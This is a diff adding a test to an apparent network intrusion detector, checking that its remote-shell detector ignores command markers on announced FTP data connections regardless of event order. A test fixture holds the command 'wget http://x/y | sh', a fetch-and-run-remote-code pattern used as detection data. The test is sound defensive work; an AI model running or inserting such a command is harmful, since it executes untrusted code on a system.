@@ -179,3 +179,29 @@ def test_dns_spoof_race_is_one_alert(tmp_path):
                         / DNS(id=100 + k, qr=1, qd=DNSQR(qname=name), an=[DNSRR(rrname=name, rdata=ip)]))
     (a,) = [a for a in analyze(_write(tmp_path, "spoof.pcap", pkts)) if a.technique == "dns_spoof"]
     assert a.severity == "high" and len(a.evidence["queries"]) == 3 and a.evidence["sightings"] == 3
+
+
+def test_remote_shell_skips_files_on_announced_ftp_data_connections_in_any_order():
+    """A file sent over an FTP data connection may quote any command: the control connection's
+    announcement (PASV reply) rules its marker packets out, whichever reaches the detector
+    first; marker packets before any announcement still count."""
+    from detector.detect.remote_shell import RemoteShell
+    from detector.l7.events import Ctx, Events, FtpDataAnnounce, ShellEvent
+
+    def shell_at(ts, sport):
+        return ShellEvent(Ctx(ts, f"C{ts}", True, "10.0.0.5", "10.0.0.9", sport, 50001, 6), "wget_pipe_shell",
+                          "wget http://x/y | sh")
+
+    announce = FtpDataAnnounce(Ctx(100, "Cctl", False, "10.0.0.9", "10.0.0.5", 21, 40000, 6), (("10.0.0.9", 50001),))
+    for order in ("announce first", "shell first"):
+        det = RemoteShell()
+        shell = Events(shell=[shell_at(200, 40002)])
+        ann = Events(ftp_data=[announce])
+        for ev in ((ann, shell) if order == "announce first" else (shell, ann)):
+            det.observe_events(ev)
+        assert det.finish() == [], order
+    det = RemoteShell()
+    det.observe_events(Events(shell=[shell_at(50, 40001)]))  # before the announcement: a shell
+    det.observe_events(Events(ftp_data=[announce]))
+    (alert,) = det.finish()
+    assert alert.technique == "remote_shell" and alert.ts_ns == 50 and alert.src_port == 40001
